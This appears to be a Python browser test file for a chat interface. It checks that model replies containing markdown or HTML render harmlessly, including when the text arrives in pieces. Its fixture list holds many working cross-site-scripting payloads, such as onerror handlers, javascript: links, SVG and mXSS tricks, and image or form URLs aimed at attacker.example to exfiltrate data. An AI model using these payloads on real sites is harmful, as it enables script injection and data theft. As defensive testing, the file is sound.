"""What a model says is shown, and does nothing."""

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devhost.testing import HostProcess
from tests.browser.chat import Browser, Chat, expect, visit
from tests.browser.conftest import NewVisit, Replies
from tests.model_server import Reply

pytestmark = pytest.mark.asyncio(loop_scope="session")

# Each would tell of itself by `window.pwned`, by a request, or by an element or attribute that is not let through.
FRAGMENTS = (
    "<script>window.pwned = 1</script>",
    "<script src='/api/chat/page.js?pwned'></script>",
    "<img src=/api/chat/pwned.png onerror='window.pwned = 1'>",
    "![a picture](https://attacker.example/?secret)",
    "![a picture][ref]\n\n[ref]: https://attacker.example/ref.png",
    "[a link](javascript:window.pwned=1)",
    "[a link](JaVaScRiPt:window.pwned=1)",
    "[a link](&#x6A;avascript:window.pwned=1)",
    "[a link](java\tscript:window.pwned=1)",
    "[a link](data:text/html,<script>window.pwned=1</script>)",
    "[a link](vbscript:window.pwned=1)",
    "[a link](/api/agent/conversations/other)",
    "<a href='javascript:window.pwned=1' onclick='window.pwned = 1'>click</a>",
    "<a href='https://example.org' target='_self' rel='opener' ping='https://attacker.example'>out</a>",
    "<form action='https://attacker.example'><input name=password autofocus onfocus='window.pwned = 1'></form>",
    "<button formaction='https://attacker.example'>press</button><textarea>x</textarea><select><option>y</select>",
    "- [ ] a task\n- [x] another",
    "<style>body { display: none } @import url(https://attacker.example/css)</style>",
    "<p style='position: fixed; inset: 0; background: url(https://attacker.example/bg)'>cover</p>",
    "<link rel=stylesheet href='https://attacker.example/css'>",
    "<iframe src='https://attacker.example' srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<object data='https://attacker.example'></object><embed src='https://attacker.example'>",
    "<svg onload='window.pwned = 1'><use href='https://attacker.example#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.pwned = 1'></style></mglyph></table></mtext></math>",
    "<video src='https://attacker.example' onerror='window.pwned = 1'></video><audio src=x></audio>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'><base href='https://attacker.example'>",
    "<div id=status role=status class=problem aria-label=Answer tabindex=1>done</div><article>fake</article>",
    "<details open ontoggle='window.pwned = 1'><summary>fake</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "```html\n<script>window.pwned = 1</script>\n```",
    "`<img src=x onerror=window.pwned=1>`",
)
# What of the elements below a node is not as it should be.
FORBIDDEN = """(root) => [...root.querySelectorAll("*")].flatMap((node) => {
  const tags = "A BLOCKQUOTE BR CODE DEL DIV EM H2 H3 H4 H5 H6 HR LI OL P PRE STRONG TABLE TBODY TD TH THEAD TR UL";
  const found = tags.split(" ").includes(node.tagName) ? [] : [node.tagName];
  const isOut = /^(https?|mailto):/i.test(node.getAttribute("href") ?? "");
  for (const { name, value } of node.attributes) {
    const link = { href: isOut, rel: value === "noopener noreferrer", target: value === "_blank" };
    const table = { tabindex: value === "0", role: value === "group", "aria-label": value === "Table" };
    const own = node.tagName === "A" ? link : node.matches(".markdown > div") ? table : {};
    if (!own[name] && !["align", "start", "title"].includes(name)) found.push(`${node.tagName} ${name}=${value}`);
  }
  if (isOut && !(node.rel && node.target)) found.push("a link without rel");
  return found;
})"""


async def assert_harmless(chat: Chat) -> None:
    assert await chat.answers.last.locator(".markdown").first.evaluate(FORBIDDEN) == []
    for link in await chat.answers.last.get_by_role("link").all():
        await link.dispatch_event("click")
    assert await chat.measure("() => window.pwned") is None
    assert len(chat.page.context.pages) == 1 or not any("javascript" in page.url for page in chat.page.context.pages)


@pytest.mark.parametrize("size", [7, 100_000])
async def test_hostile_markdown_does_nothing(
    host: HostProcess, replies: Replies, new_visit: NewVisit, size: int
) -> None:
    text = "\n\n".join(FRAGMENTS) + "\n\nThe end, **bold** as ever.\n"
    replies[f"hostile {size}"] = Reply(tuple(text[at : at + size] for at in range(0, len(text), size)))
    async with new_visit(host.base_url) as visit:
        chat = await visit.tab()
        asked: list[str] = []
        chat.page.on("request", lambda request: asked.append(request.url))
        await chat.ask(f"hostile {size}")

        await expect(chat.answers.last.get_by_role("strong")).to_have_text("bold")
        # As it is written, and so as HTML as in a block of code.
        for place in ("p", "pre code"):
            written = chat.answers.last.locator(place, has_text="<script>window.pwned = 1</script>")
            await expect(written.first).to_be_visible()
        await assert_harmless(chat)
        await chat.page.reload()
        await chat.ended("done")
        await assert_harmless(chat)
        assert [url for url in asked if "pwned" in url or "attacker" in url] == []


async def test_questions_tool_calls_and_the_list_are_plain_text(
    host: HostProcess, replies: Replies, new_visit: NewVisit
) -> None:
    html = "<img src=x onerror='window.pwned = 1'>"
    replies[html] = Reply((html,), tool_calls=(("get_weather_forecast", {"destination": html, "date": html}),))
    async with new_visit(host.base_url) as visit:
        chat = await visit.tab()
        await chat.ask(html)
        await chat.page.get_by_text("Conversations").click()

        await expect(chat.questions).to_have_text([html])
        await expect(chat.page.get_by_role("link")).to_have_text([html])
        await expect(chat.answers.locator("details")).to_contain_text(html)
        assert await chat.page.locator("img").count() == 0
        assert await chat.measure("() => window.pwned") is None


async def test_the_policy_stops_what_would_get_through(host: HostProcess, new_visit: NewVisit) -> None:
    async with new_visit(host.base_url) as visit:
        chat = await visit.tab()

        await chat.measure("""() => new Promise((resolve) => {
          const script = document.createElement("script");
          document.addEventListener("securitypolicyviolation", () => resolve(), { once: true });
          try { script.text = "window.pwned = 1"; } catch { resolve(); }
          document.body.append(script);
        })""")

        assert await chat.measure("() => window.pwned") is None
        assert visit.errors
        visit.errors.clear()


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def page(browser: Browser, host: HostProcess) -> AsyncIterator[Chat]:
    async with visit(browser, host.base_url) as reader:
        yield await reader.tab()


BLOCKS = (
    "# a title",
    "a line\n",
    "another *line*\n\n",
    "- an item\n",
    "  - below it\n",
    "1. first\n",
    "3. third\n",
    "\n",
    "\r\n",
    "    code\n",
    "```\n",
    "> quoted\n",
    "| a | b |\n|---|--:|\n",
    "| 1 | 2 |\n",
    "---\n",
    "===\n",
    "[a]",
    "[a]: https://example.org\n",
    "<p>",
    "</p>\n",
    "<!-- ",
    " -->",
    "**",
    "\\",
    "😀",
)
TEXTS = st.lists(st.sampled_from(BLOCKS + FRAGMENTS), max_size=12).map("".join)
GROW = """async ([text, cuts]) => {
  const { Markdown } = await import("/api/chat/markdown.js");
  const [grown, whole] = [new Markdown(), new Markdown()];
  for (const cut of cuts) grown.show(text.slice(0, cut), false);
  grown.show(text, true);
  whole.show(text, true);
  const forbidden = FORBIDDEN;
  return [grown.element.innerHTML, whole.element.innerHTML, forbidden(grown.element)];
}""".replace("FORBIDDEN", FORBIDDEN)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=TEXTS, cuts=st.lists(st.integers(0, 400), max_size=8).map(sorted))
async def test_text_that_grows_is_shown_as_if_it_had_come_whole_and_is_harmless(
    page: Chat, text: str, cuts: list[int]
) -> None:
    grown, whole, forbidden = await page.page.evaluate(GROW, [text, cuts])

    assert grown == whole
    assert forbidden == []
